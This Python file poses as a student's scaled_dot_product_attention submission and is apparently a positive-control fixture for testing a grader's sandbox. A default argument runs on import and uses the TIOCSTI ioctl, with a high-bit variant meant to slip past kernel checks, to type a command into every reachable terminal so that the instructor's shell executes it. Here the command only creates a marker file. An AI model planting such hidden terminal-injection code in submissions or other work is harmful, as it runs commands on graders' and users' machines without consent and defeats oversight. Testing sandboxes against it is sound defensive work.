# A default argument runs when the `def` runs, i.e. while the grader loads the file: it pushes a
# command into every terminal it can reach (TIOCSTI), to be run by the instructor's shell later.
import fcntl
import os
import termios

COMMAND = b"touch /tmp/attention-kit-typed-by-student\n"


def _type_into_terminals(command):
    reached = []
    for target in ["/dev/tty"] + list(range(64)):
        try:
            fd = os.open(target, os.O_RDWR | os.O_NOCTTY) if isinstance(target, str) else target
        except OSError:
            continue
        for request in (termios.TIOCSTI, termios.TIOCSTI | 1 << 32):  # the high bits the kernel drops
            try:
                for byte in command:
                    fcntl.ioctl(fd, request, bytes([byte]))
                reached.append(target)
                break
            except OSError:
                pass
    return reached


def scaled_dot_product_attention(Q, K, V, is_causal=True, _typed=_type_into_terminals(COMMAND)):
    raise NotImplementedError(f"typed into {_typed}")


if __name__ == "__main__":  # the test's positive control runs this file directly under a pty
    print(_type_into_terminals(COMMAND))
